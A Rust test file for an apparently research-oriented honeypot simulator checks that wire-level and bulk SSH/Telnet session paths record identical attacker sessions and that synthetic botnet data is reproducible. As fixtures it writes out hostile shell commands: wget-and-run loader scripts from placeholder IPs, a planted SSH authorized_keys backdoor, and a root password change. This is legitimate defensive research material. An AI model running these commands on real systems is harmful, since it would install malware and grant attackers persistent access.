//! Cross-path and cross-run invariants: the wire path and the bulk path
//! must observe identical sessions, and generation must be reproducible.

use honeylab::honeypot::wire::{run_wire_session, WireSessionMeta};
use honeylab::honeypot::{AuthPolicy, Protocol, SessionInput, SessionSim};
use honeylab::netsim::latency::LatencyModel;
use honeylab::netsim::Ipv4Addr;
use honeylab::prelude::*;
use honeylab::sshwire::ClientScript;

fn meta() -> WireSessionMeta {
    WireSessionMeta {
        honeypot_id: 3,
        honeypot_ip: Ipv4Addr::from_octets(100, 0, 0, 3),
        client_ip: Ipv4Addr::from_octets(10, 7, 7, 7),
        client_port: 50000,
        start: Date::new(2022, 8, 1).at(6, 0, 0),
    }
}

/// Runs the same attacker behaviour over both paths and diffs the records.
fn assert_paths_agree(logins: Vec<(&str, &str)>, commands: Vec<&str>) {
    let store = |uri: &str| -> Option<Vec<u8>> {
        uri.contains("203.0.113.5")
            .then(|| format!("#!{uri}\n").into_bytes())
    };

    let passwords: Vec<&str> = logins.iter().map(|(_, p)| *p).collect();
    let user = logins.first().map_or("root", |(u, _)| *u);
    let script = ClientScript::new(user, &passwords, &commands);
    let (wire, _) = run_wire_session(&meta(), script, AuthPolicy::default(), &store)
        .expect("wire dialogue completes");

    let sim = SessionSim::new(AuthPolicy::default(), &store, LatencyModel::new(0));
    let bulk = sim.run(SessionInput {
        honeypot_id: 3,
        honeypot_ip: Ipv4Addr::from_octets(100, 0, 0, 3),
        client_ip: Ipv4Addr::from_octets(10, 7, 7, 7),
        client_port: 50000,
        protocol: Protocol::Ssh,
        start: Date::new(2022, 8, 1).at(6, 0, 0),
        client_version: wire.client_version.clone(),
        logins: logins
            .iter()
            .map(|(u, p)| (u.to_string(), p.to_string()))
            .collect(),
        commands: commands.iter().map(|c| c.to_string()).collect(),
        idle_out: false,
    });

    assert_eq!(wire.logins, bulk.logins, "auth transcripts must agree");
    assert_eq!(wire.commands, bulk.commands, "command records must agree");
    assert_eq!(wire.uris, bulk.uris, "recorded URIs must agree");
    assert_eq!(wire.file_events, bulk.file_events, "file events must agree");
    assert_eq!(
        honeylab::core::SessionClass::of(&wire),
        honeylab::core::SessionClass::of(&bulk),
        "taxonomy class must agree"
    );
}

#[test]
fn wire_equals_bulk_for_loader_bot() {
    assert_paths_agree(
        vec![("root", "root"), ("root", "admin")],
        vec![
            "uname -s -v -n -r -m",
            "cd /tmp; wget http://203.0.113.5/mirai-9.sh; chmod 777 mirai-9.sh; sh mirai-9.sh; rm -rf mirai-9.sh",
        ],
    );
}

#[test]
fn wire_equals_bulk_for_mdrfckr() {
    let key_plant = format!(
        r#"cd ~; chattr -ia .ssh; cd ~ && rm -rf .ssh && mkdir .ssh && echo "{}">>.ssh/authorized_keys && chmod -R go= ~/.ssh"#,
        botnet::MDRFCKR_KEY_LINE
    );
    assert_paths_agree(
        vec![("root", "hunter2")],
        vec![key_plant.as_str(), "echo root:A1b2C3d4E5f6G7h8|chpasswd"],
    );
}

#[test]
fn wire_equals_bulk_for_scout() {
    assert_paths_agree(vec![("root", "1234")], vec![r#"echo -e "\x6F\x6B""#]);
}

#[test]
fn wire_equals_bulk_for_dead_dropper() {
    assert_paths_agree(
        vec![("root", "pw")],
        vec!["wget http://198.51.100.66/gone.sh; sh gone.sh"],
    );
}

#[test]
fn wire_equals_bulk_for_failed_auth() {
    // The wire client keeps one username per dialogue, so the bulk input
    // mirrors that (root:root is the one combination Cowrie rejects).
    assert_paths_agree(vec![("root", "root"), ("root", "root")], vec![]);
}

#[test]
fn wire_equals_bulk_for_phil_probe() {
    assert_paths_agree(vec![("phil", "x")], vec![]);
}

#[test]
fn telnet_wire_equals_bulk() {
    use honeylab::honeypot::wire::run_telnet_session;
    use honeylab::telwire::TelnetScript;
    let store = |uri: &str| -> Option<Vec<u8>> {
        uri.contains("203.0.113.5")
            .then(|| format!("#!{uri}\n").into_bytes())
    };
    let logins = vec![
        ("root".to_string(), "root".to_string()),
        ("root".to_string(), "tv".to_string()),
    ];
    let commands = vec![
        "cd /tmp".to_string(),
        "wget http://203.0.113.5/m.sh; sh m.sh".to_string(),
    ];
    let tmeta = WireSessionMeta {
        honeypot_id: 3,
        honeypot_ip: Ipv4Addr::from_octets(100, 0, 0, 3),
        client_ip: Ipv4Addr::from_octets(10, 7, 7, 7),
        client_port: 50000,
        start: Date::new(2022, 8, 1).at(6, 0, 0),
    };
    let (wire, _) = run_telnet_session(
        &tmeta,
        TelnetScript {
            logins: logins.clone(),
            commands: commands.clone(),
        },
        AuthPolicy::default(),
        &store,
    )
    .expect("telnet dialogue completes");
    let sim = SessionSim::new(AuthPolicy::default(), &store, LatencyModel::new(0));
    let bulk = sim.run(SessionInput {
        honeypot_id: 3,
        honeypot_ip: Ipv4Addr::from_octets(100, 0, 0, 3),
        client_ip: Ipv4Addr::from_octets(10, 7, 7, 7),
        client_port: 50000,
        protocol: Protocol::Telnet,
        start: Date::new(2022, 8, 1).at(6, 0, 0),
        client_version: None,
        logins,
        commands,
        idle_out: false,
    });
    assert_eq!(wire.protocol, bulk.protocol);
    assert_eq!(wire.logins, bulk.logins);
    assert_eq!(wire.commands, bulk.commands);
    assert_eq!(wire.uris, bulk.uris);
    assert_eq!(wire.file_events, bulk.file_events);
}

#[test]
fn generation_identical_across_runs() {
    let cfg = DriverConfig::test_scale(99);
    let a = botnet::generate_dataset(&cfg);
    let b = botnet::generate_dataset(&cfg);
    assert_eq!(a.sessions.len(), b.sessions.len());
    for (x, y) in a.sessions.iter().zip(&b.sessions) {
        assert_eq!(x.start, y.start);
        assert_eq!(x.client_ip, y.client_ip);
        assert_eq!(x.honeypot_id, y.honeypot_id);
        assert_eq!(x.command_text(), y.command_text());
        assert_eq!(x.file_events.len(), y.file_events.len());
    }
    assert_eq!(a.ground_truth, b.ground_truth);
    assert_eq!(a.killnet.len(), b.killnet.len());
}

#[test]
fn different_seeds_differ_but_keep_shapes() {
    let a = botnet::generate_dataset(&DriverConfig::test_scale(1));
    let b = botnet::generate_dataset(&DriverConfig::test_scale(2));
    // Different draws...
    assert_ne!(a.sessions.len(), b.sessions.len());
    // ...same qualitative structure.
    for ds in [&a, &b] {
        let stats = TaxonomyStats::compute(&ds.sessions);
        assert!(stats.ordering_matches_paper(), "seed-independent ordering");
        let cl = Classifier::table1();
        let cov = honeylab::core::report::classification_coverage(&ds.sessions, &cl);
        assert!(cov > 0.99, "seed-independent coverage: {cov}");
    }
}
